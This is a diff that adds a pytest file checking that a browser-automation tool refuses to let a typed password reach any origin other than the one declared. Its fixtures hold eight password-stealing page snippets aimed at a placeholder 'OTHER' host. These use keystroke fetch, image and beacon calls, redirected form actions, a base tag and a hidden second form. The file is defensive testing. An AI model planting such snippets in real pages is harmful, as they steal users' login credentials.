@@ -1,0 +1,74 @@
+"""A password stays on the origins that it is declared for, whatever the page does with it."""
+
+import asyncio
+
+import pytest
+
+from tests.browser.tab import Tab, css
+from webmend.domain.evidence import ErrorKind
+from webmend.ports.browser import StepFailed
+
+PASSWORD = "correct horse/19"
+LOGIN = "<form action=/in><input id=p name=p type=password><button id=go>Go</button></form>"
+WAYS = {
+    "a script at every letter": f"{LOGIN}<script>p.oninput = () => fetch('OTHER/x?' + p.value)</script>",
+    "a picture": f"{LOGIN}<script>p.oninput = () => new Image().src = 'OTHER/x?' + escape(p.value)</script>",
+    "a beacon": f"{LOGIN}<script>p.oninput = () => navigator.sendBeacon('OTHER/x', btoa('u:' + p.value))</script>",
+    "the form": LOGIN.replace("/in", "OTHER/x"),
+    "the form by post": LOGIN.replace("/in", "OTHER/x method=post"),
+    "the button": LOGIN.replace("id=go", "id=go formaction=OTHER/x"),
+    "a base": "<base href=OTHER/>" + LOGIN.replace("/in", "x"),
+    "a second form": f"<form id=f action=OTHER/x method=post target=t><input name=c></form><iframe name=t></iframe>"
+    f"{LOGIN.replace('<form', '<form onsubmit=f.c.value=p.value,f.submit()')}",
+}
+
+
+async def sign_in(tab: Tab) -> None:
+    origins = (tab.site.url,)
+    await tab.do(css("#p"), fill={"value": PASSWORD}, origins=origins)
+    await tab.do(css("#go"), click={})
+
+
+@pytest.mark.parametrize("page", WAYS.values(), ids=WAYS.keys())
+async def test_a_password_is_not_sent_to_another_origin(tab: Tab, page: str) -> None:
+    tab.site.put("/in", "<h1>Welcome</h1>")
+    tab.site.put("/x", "<h1>Thank you</h1>")
+    await tab.open(page.replace("OTHER", tab.site.other_origin))
+
+    failed = await _fails(tab)
+
+    assert "/x" not in tab.site.asked
+    assert failed == ErrorKind.DEFINITION
+
+
+async def test_what_holds_no_password_goes_where_it_wants(tab: Tab) -> None:
+    tab.site.put("/in", "<h1>Welcome</h1>")
+    tab.site.put("/count", "", headers={"Access-Control-Allow-Origin": "*"})
+    other = tab.site.other_origin
+    await tab.open(f"{LOGIN}<script>p.oninput = () => fetch('{other}/count?typed')</script>")
+
+    await sign_in(tab)
+
+    assert {"/count", "/in"} <= set(tab.site.asked)
+
+
+async def test_pages_are_no_longer_looked_at_once_the_one_with_the_password_has_gone(tab: Tab) -> None:
+    tab.site.put("/in", "<h1>Welcome</h1>")
+    await tab.open(LOGIN)
+
+    await sign_in(tab)
+    await tab.do(wait={"url": "**/in*"})
+
+    async with asyncio.timeout(10):
+        while tab.session._leaks._elsewhere is not None:
+            await asyncio.sleep(0.02)
+
+
+async def _fails(tab: Tab) -> ErrorKind | None:
+    """How signing in fails; at the latest with the step after it."""
+    try:
+        await sign_in(tab)
+        await tab.do(wait={"page": "Idle"})
+    except StepFailed as failed:
+        return failed.error.kind
+    return None
